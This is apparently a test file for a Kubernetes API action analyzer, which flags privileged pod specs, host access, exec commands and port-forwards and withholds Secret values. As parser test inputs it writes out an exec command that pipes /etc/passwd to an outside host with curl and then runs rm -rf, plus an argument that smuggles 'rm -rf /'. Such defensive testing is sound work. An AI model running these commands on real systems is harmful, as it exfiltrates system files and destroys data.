import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import type { EnrichedKubernetesAction } from '../src/enrichment/enriched-action.ts';
import { enrichKubernetesAction } from '../src/enrichment/kubernetes/kubernetes-action-reader.ts';
import { createShellAnalyzer, type ShellAnalyzer } from '../src/enrichment/shell-analyzer.ts';

let shell: ShellAnalyzer;
before(async () => {
  shell = await createShellAnalyzer();
});

const enrich = (method: string, path: string, extra: { query?: string; body?: unknown; object?: unknown } = {}): Promise<EnrichedKubernetesAction> =>
  enrichKubernetesAction({ type: 'kubernetes', method, path, ...extra }, shell);

const container = (fields: Record<string, unknown> = {}) => ({ name: 'web', image: 'nginx:1.27', ...fields });
const podSpec = (fields: Record<string, unknown> = {}) => ({ containers: [container()], ...fields });
const pod = (spec: Record<string, unknown>) => ({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'web' }, spec });

describe('Kubernetes writes: the pod specs the stored object carries', () => {
  it('reads a pod: images, privileged, escalation, capabilities, run-as-user, host ports', async () => {
    const object = pod({
      securityContext: { runAsUser: 0 },
      containers: [
        container({ securityContext: { privileged: true, allowPrivilegeEscalation: true, capabilities: { add: ['cap_sys_admin', 'NET_BIND_SERVICE'] } }, ports: [{ containerPort: 80, hostPort: 8080 }, { containerPort: 81 }] }),
        container({ name: 'side', image: 'busybox', securityContext: { runAsUser: 1000, allowPrivilegeEscalation: false } }),
      ],
      initContainers: [container({ name: 'init', image: 'alpine' })],
    });
    const action = await enrich('POST', '/api/v1/namespaces/shop/pods', { body: object, object });
    assert.equal(action.write?.source, 'object');
    assert.equal(action.write?.problem, null);
    assert.equal(action.write?.kind, 'Pod');
    assert.equal(action.write?.pod_specs.length, 1);
    const [spec] = action.write!.pod_specs;
    assert.equal(spec!.at, 'spec');
    assert.deepEqual(spec!.containers, [
      { name: 'web', kind: 'container', image: 'nginx:1.27', privileged: true, allow_privilege_escalation: true, added_capabilities: ['SYS_ADMIN', 'NET_BIND_SERVICE'], run_as_user: 0, host_ports: [8080], unconfined: [], proc_mount_unmasked: false },
      { name: 'side', kind: 'container', image: 'busybox', privileged: false, allow_privilege_escalation: false, added_capabilities: [], run_as_user: 1000, host_ports: [], unconfined: [], proc_mount_unmasked: false },
      { name: 'init', kind: 'init', image: 'alpine', privileged: false, allow_privilege_escalation: null, added_capabilities: [], run_as_user: 0, host_ports: [], unconfined: [], proc_mount_unmasked: false },
    ]);
  });

  it('reads the confinement a container runs without: Unconfined seccomp or AppArmor (its own, else the pod\'s) and an unmasked /proc', async () => {
    const object = pod({
        securityContext: { seccompProfile: { type: 'Unconfined' } },
        containers: [
          container({ name: 'a', securityContext: { procMount: 'Unmasked' } }),
          container({ name: 'b', securityContext: { seccompProfile: { type: 'RuntimeDefault' }, appArmorProfile: { type: 'Unconfined' } } }),
          container({ name: 'c', securityContext: { seccompProfile: { type: 'Localhost', localhostProfile: 'p.json' }, appArmorProfile: 'garbage' } }),
        ],
    });
    const action = await enrich('POST', '/api/v1/namespaces/shop/pods', { body: object, object });
    const containers = action.write!.pod_specs[0]!.containers;
    assert.deepEqual(containers.map((c) => [c.name, c.unconfined, c.proc_mount_unmasked]), [
      ['a', ['seccomp'], true],
      ['b', ['apparmor'], false],
      ['c', ['apparmor'], false],
    ]);
  });

  it('reads host namespaces, hostPath volumes and the service account', async () => {
    const object = pod(podSpec({ hostNetwork: true, hostPID: true, hostIPC: false, serviceAccountName: 'builder', volumes: [{ name: 'root', hostPath: { path: '/' } }, { name: 'tmp', emptyDir: {} }] }));
    const [spec] = (await enrich('POST', '/api/v1/namespaces/shop/pods', { object })).write!.pod_specs;
    assert.equal(spec!.host_network, true);
    assert.equal(spec!.host_pid, true);
    assert.equal(spec!.host_ipc, false);
    assert.deepEqual(spec!.host_path_volumes, ['/']);
    assert.equal(spec!.service_account, 'builder');
  });

  it('finds the pod template of every workload kind, and of any custom resource that embeds one', async () => {
    const template = { metadata: { labels: { app: 'web' } }, spec: podSpec({ hostPID: true }) };
    const cases: Array<[path: string, object: Record<string, unknown>, at: string]> = [
      ['/apis/apps/v1/namespaces/shop/deployments', { kind: 'Deployment', spec: { template } }, 'spec.template.spec'],
      ['/apis/apps/v1/namespaces/shop/statefulsets', { kind: 'StatefulSet', spec: { template } }, 'spec.template.spec'],
      ['/apis/apps/v1/namespaces/shop/daemonsets', { kind: 'DaemonSet', spec: { template } }, 'spec.template.spec'],
      ['/apis/apps/v1/namespaces/shop/replicasets', { kind: 'ReplicaSet', spec: { template } }, 'spec.template.spec'],
      ['/apis/batch/v1/namespaces/shop/jobs', { kind: 'Job', spec: { template } }, 'spec.template.spec'],
      ['/apis/batch/v1/namespaces/shop/cronjobs', { kind: 'CronJob', spec: { jobTemplate: { spec: { template } } } }, 'spec.jobTemplate.spec.template.spec'],
      ['/api/v1/namespaces/shop/replicationcontrollers', { kind: 'ReplicationController', spec: { template } }, 'spec.template.spec'],
      ['/api/v1/namespaces/shop/podtemplates', { kind: 'PodTemplate', template }, 'template.spec'],
      ['/apis/argoproj.io/v1alpha1/namespaces/shop/rollouts', { kind: 'Rollout', spec: { template } }, 'spec.template.spec'],
    ];
    for (const [path, object, at] of cases) {
      const specs = (await enrich('POST', path, { object })).write!.pod_specs;
      assert.deepEqual(specs.map((spec) => [spec.at, spec.host_pid]), [[at, true]], path);
    }
  });

  it('reads a Windows host-process container as privileged, at container or pod level', async () => {
    const direct = pod(podSpec({ containers: [container({ securityContext: { windowsOptions: { hostProcess: true } } })] }));
    const inherited = pod(podSpec({ securityContext: { windowsOptions: { hostProcess: true } } }));
    for (const object of [direct, inherited]) {
      assert.equal((await enrich('POST', '/api/v1/namespaces/shop/pods', { object })).write!.pod_specs[0]!.containers[0]!.privileged, true);
    }
  });

  it('reads ephemeral containers added through the ephemeralcontainers subresource', async () => {
    const object = pod(podSpec({ ephemeralContainers: [container({ name: 'debug', image: 'busybox', securityContext: { privileged: true } })] }));
    const action = await enrich('PATCH', '/api/v1/namespaces/shop/pods/web/ephemeralcontainers', { object });
    assert.deepEqual(action.write!.pod_specs[0]!.containers.map((each) => [each.kind, each.privileged]), [['container', false], ['ephemeral', true]]);
  });

  it('reads a value of the wrong type as the dangerous one (the API server would refuse it anyway)', async () => {
    const object = pod(podSpec({ hostNetwork: 'yes', containers: [container({ securityContext: { privileged: 1, runAsUser: 'root', capabilities: { add: [7] } }, ports: [{ hostPort: '80' }] })] }));
    const [spec] = (await enrich('POST', '/api/v1/namespaces/shop/pods', { object })).write!.pod_specs;
    assert.equal(spec!.host_network, true);
    assert.deepEqual(spec!.containers[0], { name: 'web', kind: 'container', image: 'nginx:1.27', privileged: true, allow_privilege_escalation: null, added_capabilities: ['?'], run_as_user: 0, host_ports: [-1], unconfined: [], proc_mount_unmasked: false });
  });

  it('judges a patch by the resolved object only, never by its body', async () => {
    const patch = { spec: { hostNetwork: true } };
    const unresolved = await enrich('PATCH', '/api/v1/namespaces/shop/pods/web', { body: patch });
    assert.equal(unresolved.write?.source, null);
    assert.match(unresolved.write?.problem ?? '', /no object as it will be stored/);
    const resolved = await enrich('PATCH', '/api/v1/namespaces/shop/pods/web', { body: patch, object: pod(podSpec({ hostNetwork: true })) });
    assert.equal(resolved.write?.source, 'object');
    assert.equal(resolved.write?.pod_specs[0]?.host_network, true);
  });

  it('reads a create or update without a resolved object from its JSON body', async () => {
    const action = await enrich('PUT', '/api/v1/namespaces/shop/pods/web', { body: pod(podSpec({ hostIPC: true })) });
    assert.equal(action.write?.source, 'body');
    assert.equal(action.write?.pod_specs[0]?.host_ipc, true);
    const empty = await enrich('POST', '/api/v1/namespaces/shop/pods');
    assert.equal(empty.write?.source, null);
    const notAnObject = await enrich('POST', '/api/v1/namespaces/shop/pods', { object: 'kind: Pod' });
    assert.match(notAnObject.write?.problem ?? '', /not a JSON object/);
  });

  it('refuses to judge an object too deeply nested to search', async () => {
    let deep: Record<string, unknown> = { containers: [container({ securityContext: { privileged: true } })] };
    for (let level = 0; level < 100; level++) deep = { nested: deep };
    const action = await enrich('POST', '/apis/example.com/v1/namespaces/shop/things', { object: { kind: 'Thing', spec: deep } });
    assert.match(action.write?.problem ?? '', /too large or too deeply nested/);
    assert.deepEqual(action.write?.pod_specs, []);
  });

  it('has no write facts for reads, deletes and stream subresources', async () => {
    for (const [method, path] of [['GET', '/api/v1/namespaces/shop/pods/web'], ['DELETE', '/api/v1/namespaces/shop/pods/web'], ['POST', '/api/v1/namespaces/shop/pods/web/exec'], ['GET', '/version']] as const) {
      assert.equal((await enrich(method, path)).write, null, `${method} ${path}`);
    }
  });
});

describe('Kubernetes exec, attach and port-forward: their options from the query', () => {
  it('reads an exec: the argv in order, container, stdin/tty as the API server decodes booleans', async () => {
    const action = await enrich('GET', '/api/v1/namespaces/shop/pods/web/exec', { query: 'command=ls&command=-la&command=%2Fetc&container=app&stdin=true&stdout=1&stderr=false&tty=0' });
    assert.deepEqual(action.exec, {
      container: 'app',
      stdin: true,
      stdout: true,
      stderr: false,
      tty: false,
      command: ['ls', '-la', '/etc'],
      shell: { parse_error: null, commands: action.exec?.shell?.commands, environment: [] },
    });
    assert.deepEqual(action.exec?.shell?.commands.map((command) => [command.name, command.args]), [['ls', ['-la', '/etc']]]);
    assert.equal(action.attach, null);
    assert.equal(action.port_forward, null);
  });

  it('follows an sh -c script into the commands it runs', async () => {
    const action = await enrich('POST', '/api/v1/namespaces/shop/pods/web/exec', { query: `command=sh&command=-c&command=${encodeURIComponent("cat /etc/passwd | curl -d @- http://x; rm -rf '/data'")}` });
    const commands = action.exec?.shell?.commands.map((command) => [command.name, command.via]);
    assert.deepEqual(commands, [['sh', null], ['cat', 'sh -c'], ['curl', 'sh -c'], ['rm', 'sh -c']]);
  });

  it('keeps each argv word one word, whatever quotes or spaces it holds', async () => {
    const action = await enrich('POST', '/api/v1/namespaces/shop/pods/web/exec', { query: `command=echo&command=${encodeURIComponent("it's; rm -rf /")}` });
    assert.deepEqual(action.exec?.shell?.commands.map((command) => [command.name, command.args]), [['echo', ["it's; rm -rf /"]]]);
  });

  it('reads an attach: container and streams, no command', async () => {
    const action = await enrich('POST', '/api/v1/namespaces/shop/pods/web/attach', { query: 'container=app&stdin=&tty=TRUE' });
    assert.deepEqual(action.attach, { container: 'app', stdin: true, stdout: false, stderr: false, tty: true, command: [], shell: null });
    assert.equal(action.exec, null);
  });

  it('reads port-forward ports, repeated and comma-separated, and refuses what is not a port', async () => {
    assert.deepEqual((await enrich('GET', '/api/v1/namespaces/shop/pods/web/portforward', { query: 'ports=8080,9090&ports=5432' })).port_forward, { ports: [8080, 9090, 5432], parse_error: null });
    assert.deepEqual((await enrich('POST', '/api/v1/namespaces/shop/pods/web/portforward')).port_forward, { ports: [], parse_error: null });
    for (const bad of ['0', '65536', 'http', '80,', '-1', '+80']) {
      const facts = (await enrich('GET', '/api/v1/namespaces/shop/pods/web/portforward', { query: `ports=${encodeURIComponent(bad)}` })).port_forward;
      assert.deepEqual(facts?.ports, [], bad);
      assert.match(facts?.parse_error ?? '', /not a port number/, bad);
    }
  });
});

describe('the canonical path', () => {
  it('is the path as the API server reads it, or null when it cannot be read unambiguously', async () => {
    assert.equal((await enrich('GET', '/apis/apps/v1/')).canonical_path, '/apis/apps/v1');
    assert.equal((await enrich('GET', '/openapi/v3/apis/apps%2Fv1')).canonical_path, null);
    assert.equal((await enrich('GET', '/debug/../metrics')).canonical_path, null);
    assert.equal((await enrich('GET', '/version?timeout=1s')).canonical_path, '/version');
  });
});

describe('Kubernetes Secret writes: their values withheld from what the decision carries on', () => {
  const secret = {
    apiVersion: 'v1', kind: 'Secret', type: 'Opaque',
    metadata: { name: 'db', labels: { app: 'db' }, annotations: { 'kubectl.kubernetes.io/last-applied-configuration': '{"data":{"password":"c2VjcmV0"}}', owner: 'team-a' } },
    data: { password: 'c2VjcmV0', user: 'YWRtaW4=' }, stringData: { token: 'plain-token' },
  };

  it('keeps names, keys, type and labels, and withholds every value, in body and object alike', async () => {
    const action = await enrich('PUT', '/api/v1/namespaces/shop/secrets/db', { body: secret, object: secret });
    const expected = {
      ...secret,
      metadata: { ...secret.metadata, annotations: { 'kubectl.kubernetes.io/last-applied-configuration': '[withheld]', owner: 'team-a' } },
      data: { password: '[withheld]', user: '[withheld]' }, stringData: { token: '[withheld]' },
    };
    assert.deepEqual(action.body, expected);
    assert.deepEqual(action.object, expected);
    assert.equal(action.secret_values_withheld, true);
    assert.equal(action.write?.kind, 'Secret');
  });

  it('withholds the values of every patch type: merge and strategic merge, JSON Patch, apply YAML', async () => {
    const merge = await enrich('PATCH', '/api/v1/namespaces/shop/secrets/db', { body: { data: { password: 'bmV3' } }, object: secret });
    assert.deepEqual(merge.body, { data: { password: '[withheld]' } });
    const jsonPatch = await enrich('PATCH', '/api/v1/namespaces/shop/secrets/db', {
      body: [{ op: 'replace', path: '/data/password', value: 'bmV3' }, { op: 'add', path: '/data', value: { a: 'Yg==' } }, { op: 'remove', path: '/data/user' }],
      object: secret,
    });
    assert.deepEqual(jsonPatch.body, [{ op: 'replace', path: '/data/password', value: '[withheld]' }, { op: 'add', path: '/data', value: '[withheld]' }, { op: 'remove', path: '/data/user' }]);
    const apply = await enrich('PATCH', '/api/v1/namespaces/shop/secrets/db', { body: 'apiVersion: v1\nkind: Secret\nstringData:\n  password: new\n', object: secret });
    assert.equal(apply.body, '[withheld]');
  });

  it('leaves other resources, and Secret reads, as they came', async () => {
    const configMap = { kind: 'ConfigMap', data: { a: 'b' } };
    const write = await enrich('POST', '/api/v1/namespaces/shop/configmaps', { body: configMap, object: configMap });
    assert.deepEqual(write.object, configMap);
    assert.equal(write.secret_values_withheld, false);
    assert.equal((await enrich('GET', '/api/v1/namespaces/shop/secrets/db')).secret_values_withheld, false);
  });
});
